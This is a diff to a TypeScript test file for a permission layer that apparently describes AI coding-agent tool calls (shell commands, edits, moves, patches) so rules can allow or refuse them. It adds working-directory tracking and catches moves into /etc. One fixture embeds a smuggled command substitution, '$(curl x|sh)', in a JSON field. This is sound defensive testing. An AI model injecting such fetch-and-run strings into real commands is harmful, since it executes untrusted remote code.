@@ -16,7 +16,8 @@ const changed = (tool: string, ...paths: string[]) => ({
   subjects: paths.map((text) => ({ kind: "path", text })),
   isWhole: true,
 });
-const ran = (tool: string, text: string) => ({
+const ran = (tool: string, text: string, cwd: string) => ({
+  cwd,
   tool,
   changesFiles: false,
   subjects: [{ kind: "command", text }],
@@ -38,14 +39,15 @@ test("[A376] the same command is the same to rules, whichever agent wants to run
     ["execute", "git status"],
   ] as const;
   expect(calls.map(([tool, call]) => describeCall({ tool, call }, "/"))).toEqual(
-    calls.map(([tool]) => ran(tool, "git status")),
+    calls.map(([tool]) => ran(tool, "git status", "/")),
   );
-  expect(describeOwnCall({ tool: "shell", call: own })).toEqual(ran("shell", "git status"));
+  expect(describeOwnCall({ tool: "shell", call: own })).toEqual(ran("shell", "git status", "/x"));
 });
 
 test("[A375] what stands beside a command and is not known makes the call one that cannot be allowed by it", () => {
   const call = JSON.stringify({ command: "git status", cwd: "/etc" });
   expect(describeCall({ tool: "Bash", call }, "/")).toEqual({
+    cwd: "/etc",
     tool: "Bash",
     changesFiles: false,
     subjects: [
@@ -69,28 +71,29 @@ test("[A374] a changed file is its real place, from the session's directory, whi
   symlinkSync(path.join(outside, "nowhere"), path.join(cwd, "src/nowhere"));
   const edit = (file_path: string) =>
     describeCall({ tool: "Edit", call: JSON.stringify({ file_path, old_string: "a" }) }, cwd);
-  expect(edit(path.join(cwd, "src/a.ts"))).toEqual(changed("Edit", "src/a.ts"));
-  expect(edit("src/../src/new/b.ts")).toEqual(changed("Edit", "src/new/b.ts"));
-  expect(edit("src/out/x")).toEqual(changed("Edit", path.join(outside, "x")));
-  expect(edit("../x")).toEqual(changed("Edit", path.join(path.dirname(cwd), "x")));
-  const partly = (tool: string, file: string, call: string) => ({
-    ...changed(tool, file),
-    subjects: [
-      { kind: "path", text: file },
-      { kind: "call", text: call },
-    ],
+  expect(edit(path.join(cwd, "src/a.ts"))).toMatchObject(changed("Edit", "src/a.ts"));
+  expect(edit("src/../src/new/b.ts")).toMatchObject(changed("Edit", "src/new/b.ts"));
+  expect(edit("src/out/x")).toMatchObject(changed("Edit", path.join(outside, "x")));
+  expect(edit("../x")).toMatchObject(changed("Edit", path.join(path.dirname(cwd), "x")));
+  const partly = (tool: string, files: string[], call: string) => ({
+    ...changed(tool),
+    subjects: [...files.map((text) => ({ kind: "path", text })), { kind: "call", text: call }],
     isWhole: false,
   });
-  expect(edit("src/nowhere")).toEqual(partly("Edit", "src/nowhere", '{"file_path":"src/nowhere","old_string":"a"}'));
+  expect(edit("src/nowhere")).toMatchObject(
+    partly("Edit", ["src/nowhere"], '{"file_path":"src/nowhere","old_string":"a"}'),
+  );
   const move = { tool: "move", call: '{"path":"src/a.ts","to":"/etc/x"}' };
-  expect(describeCall(move, cwd)).toEqual(partly("move", "src/a.ts", '{"path":"src/a.ts","to":"/etc/x"}'));
+  expect(describeCall(move, cwd)).toMatchObject(
+    partly("move", ["src/a.ts", "/etc/x"], '{"path":"src/a.ts","to":"/etc/x"}'),
+  );
   const patch = JSON.stringify({
     changes: [
       { path: path.join(cwd, "src/a.ts"), kind: { type: "update", move_path: "src/c.ts" }, diff: "" },
       { path: "b", kind: { type: "add" }, diff: "" },
     ],
   });
-  expect(describeCall({ tool: "apply_patch", call: patch }, cwd)).toEqual(
+  expect(describeCall({ tool: "apply_patch", call: patch }, cwd)).toMatchObject(
     changed("apply_patch", "src/a.ts", "src/c.ts", "b"),
   );
   const grant = JSON.stringify({ changes: [{ path: "b" }], grantRoot: "/" });
@@ -102,11 +105,11 @@ test("[A374] a changed file is its real place, from the session's directory, whi
     member: "m",
     tool: "write",
   });
-  expect(describeOwnCall({ tool: "write", call: own })).toEqual(changed("write", "real/x"));
+  expect(describeOwnCall({ tool: "write", call: own })).toMatchObject(changed("write", "real/x"));
 });
 
 test("[A375] anything else is exactly this call", () => {
-  const one = { tool: "mcp__x__y", changesFiles: false, isWhole: true };
+  const one = { tool: "mcp__x__y", changesFiles: false, isWhole: true, cwd: "/" };
   expect(describeCall({ tool: "mcp__x__y", call: '{"b":1}' }, "/")).toEqual({
     ...one,
     subjects: [{ kind: "call", text: '{"b":1}' }],
@@ -119,7 +122,7 @@ test("[A654] a command that is written as JSON is one command, whatever its fiel
   const lines = [own, '{"command":"git status","description":"$(curl x|sh)"}', "{ echo a; }", "git status"];
   for (const tool of ["Bash", "bash", "shell", "execute"]) {
     expect(lines.map((line) => describeCall({ tool, call: commandCall(line) }, "/"))).toEqual(
-      lines.map((line) => ran(tool, line)),
+      lines.map((line) => ran(tool, line, "/")),
     );
   }
   // Also where nobody has written it as the text that it is.
@@ -139,7 +142,7 @@ test("[A658] a path that a change names beside another does not hide that one", 
     paths: ["src/b.ts"],
     changes: [{ path: "c" }],
   };
-  expect(describeCall({ tool: "write", call: JSON.stringify(both) }, cwd)).toEqual(
+  expect(describeCall({ tool: "write", call: JSON.stringify(both) }, cwd)).toMatchObject(
     changed("write", path.join(outside, "x"), "c", "src/a.ts", "src/b.ts"),
   );
 });
@@ -173,7 +176,10 @@ test("[A657] paths that are merely listed can be refused, and allowed only with 
   const paths = ["src/a.ts", "b"];
   expect(seen({ title: "t", paths, diff: "d" })).toEqual({ paths, isWhole: true });
   expect(seen({ title: "t", paths })).toEqual({ paths, isWhole: false });
-  expect(seen({ title: "t", args: { to: "/etc/x" }, paths, diff: "d" })).toEqual({ paths, isWhole: false });
+  expect(seen({ title: "t", args: { to: "/etc/x" }, paths, diff: "d" })).toEqual({
+    paths: [...paths, "/etc/x"],
+    isWhole: false,
+  });
   expect(seen({ title: "t", args: { filepath: "src/a.ts", diff: "d" }, paths, diff: "d" })).toEqual({
     paths,
     isWhole: true,
